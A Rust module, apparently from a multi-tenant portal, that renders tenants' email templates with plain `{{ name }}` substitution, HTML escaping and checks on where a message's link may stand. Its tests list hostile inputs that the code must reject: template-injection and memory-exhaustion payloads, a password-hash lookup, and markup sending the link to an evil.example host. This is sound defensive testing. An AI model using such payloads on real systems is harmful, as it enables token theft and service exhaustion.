//! The language of a tenant's own templates: text with `{{ name }}`
//! substitutions, nothing else. A tenant is not trusted with a template
//! engine (loops, string repetition and concatenation can exhaust the
//! memory or CPU every tenant shares), so its templates cannot compute:
//! rendering is one pass over the text, its output bounded by the
//! template's size and the values'. In the HTML part every value is
//! escaped. A message's link may stand only where it cannot be sent to
//! another host: as a whole `href="…"` value in HTML, alone between
//! spaces in text, never in the subject.

use serde_json::{Map, Value};

/// One piece of a template.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Segment<'a> {
    Text(&'a str),
    Name(&'a str),
}

/// The part of a message a template renders.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Part {
    Subject,
    Text,
    Html,
}

impl Part {
    pub fn field(self) -> &'static str {
        match self {
            Self::Subject => "subject",
            Self::Text => "text",
            Self::Html => "html",
        }
    }
}

/// The name a message's link goes by.
const LINK: &str = "link";

fn parse(source: &str) -> Result<Vec<Segment<'_>>, String> {
    if source.contains("{%") || source.contains("{#") {
        return Err(
            "only `{{ name }}` substitutions are allowed (no `{% … %}` or `{# … #}`)".into(),
        );
    }
    let mut out = Vec::new();
    let mut rest = source;
    while let Some(open) = rest.find("{{") {
        out.push(Segment::Text(&rest[..open]));
        let after = &rest[open + 2..];
        let close = after
            .find("}}")
            .ok_or_else(|| "a `{{` without its `}}`".to_owned())?;
        let name = after[..close].trim();
        let is_name = !name.is_empty()
            && name
                .chars()
                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_');
        if !is_name {
            return Err(format!(
                "`{{{{ {name} }}}}`: only a name may stand between `{{{{` and `}}}}`"
            ));
        }
        out.push(Segment::Name(name));
        rest = &after[close + 2..];
    }
    if rest.contains("}}") {
        return Err("a `}}` without its `{{`".into());
    }
    out.push(Segment::Text(rest));
    Ok(out)
}

/// Where the link stands must leave it whole and on the portal's host.
/// `parse` alternates texts and names (text first and last, maybe
/// empty), so a name's neighbours are texts; an empty one between two
/// names would glue the link to another value.
fn check_link_placement(segments: &[Segment<'_>], part: Part) -> Result<usize, String> {
    let text_at = |j: usize| match segments.get(j) {
        Some(Segment::Text(t)) => *t,
        _ => "",
    };
    let mut uses = 0;
    for (i, segment) in segments.iter().enumerate() {
        if *segment != Segment::Name(LINK) {
            continue;
        }
        uses += 1;
        let (before, after) = (i.checked_sub(1).map_or("", text_at), text_at(i + 1));
        let at_start = i == 1 && before.is_empty();
        let at_end = i + 2 == segments.len() && after.is_empty();
        let placed = match part {
            Part::Subject => false,
            Part::Html => before.ends_with("href=\"") && after.starts_with('"'),
            Part::Text => {
                (at_start || before.ends_with(char::is_whitespace))
                    && (at_end || after.starts_with(char::is_whitespace))
            }
        };
        if !placed {
            return Err(match part {
                Part::Subject => "the link may not stand in the subject".into(),
                Part::Html => "the link may stand only as a whole `href=\"{{ link }}\"`".into(),
                Part::Text => "the link must stand alone, between spaces or lines".into(),
            });
        }
    }
    Ok(uses)
}

fn display(value: &Value) -> String {
    match value {
        Value::String(s) => s.clone(),
        Value::Null => String::new(),
        Value::Array(items) => items.iter().map(display).collect::<Vec<_>>().join(", "),
        other => other.to_string(),
    }
}

fn escape_html(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#x27;"),
            c => out.push(c),
        }
    }
    out
}

/// Renders a tenant's template of `part` with `values` (a kind's
/// context). `with_link`: the kind carries a link, which must then stand
/// in the text and the HTML (where it may stand: see the module).
pub fn render(
    source: &str,
    part: Part,
    values: &Map<String, Value>,
    with_link: bool,
) -> Result<String, String> {
    let segments = parse(source)?;
    let links = check_link_placement(&segments, part)?;
    if with_link && links == 0 && part != Part::Subject {
        return Err("the message's `{{ link }}` must stand in it".into());
    }
    let mut out = String::with_capacity(source.len());
    for segment in segments {
        match segment {
            Segment::Text(t) => out.push_str(t),
            Segment::Name(name) => {
                let value = values.get(name).ok_or_else(|| {
                    format!("`{{{{ {name} }}}}` is not one of this message's names")
                })?;
                let text = display(value);
                if part == Part::Html {
                    out.push_str(&escape_html(&text));
                } else {
                    out.push_str(&text);
                }
            }
        }
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    fn values() -> Map<String, Value> {
        match json!({"name": "<b>Eve</b>", "link": "https://portal/x", "days": 3}) {
            Value::Object(m) => m,
            _ => unreachable!(),
        }
    }

    #[test]
    fn names_are_put_in_and_escaped_in_html_only() {
        let v = values();
        assert_eq!(
            render("Hi {{ name }}, {{days}} days", Part::Text, &v, false).unwrap(),
            "Hi <b>Eve</b>, 3 days"
        );
        assert_eq!(
            render("<p>{{ name }}</p>", Part::Html, &v, false).unwrap(),
            "<p>&lt;b&gt;Eve&lt;/b&gt;</p>"
        );
    }

    #[test]
    fn nothing_but_substitution_is_allowed() {
        let v = values();
        for bad in [
            "{% for a in b %}x{% endfor %}",
            "{{ 'x' * 100000000 }}",
            "{{ name ~ name }}",
            "{# note #}",
            "{{ name",
            "name }}",
            "{{ password_hash }}",
        ] {
            assert!(render(bad, Part::Text, &v, false).is_err(), "{bad}");
        }
    }

    #[test]
    fn the_link_stands_only_where_it_stays_on_the_portal() {
        let v = values();
        assert!(render("<a href=\"{{ link }}\">go</a>", Part::Html, &v, true).is_ok());
        assert!(render("Open:\n{{ link }}\n", Part::Text, &v, true).is_ok());
        assert!(render("{{ link }}", Part::Text, &v, true).is_ok());
        for bad in [
            "<img src=\"https://evil.example/{{ link }}\">",
            "<a href=\"https://evil.example/?u={{ link }}\">",
            "<a href=\"{{ link }}x\">",
        ] {
            assert!(render(bad, Part::Html, &v, true).is_err(), "{bad}");
        }
        assert!(render("https://evil.example/{{ link }}", Part::Text, &v, true).is_err());
        assert!(render("{{ name }}{{ link }}", Part::Text, &v, true).is_err());
        assert!(render("{{ link }}{{ name }}", Part::Text, &v, true).is_err());
        assert!(render("Hi {{ link }}", Part::Subject, &v, true).is_err());
        // A kind with a link must show it.
        assert!(render("Hello {{ name }}", Part::Text, &v, true).is_err());
        assert!(render("Hello {{ name }}", Part::Subject, &v, true).is_ok());
    }
}
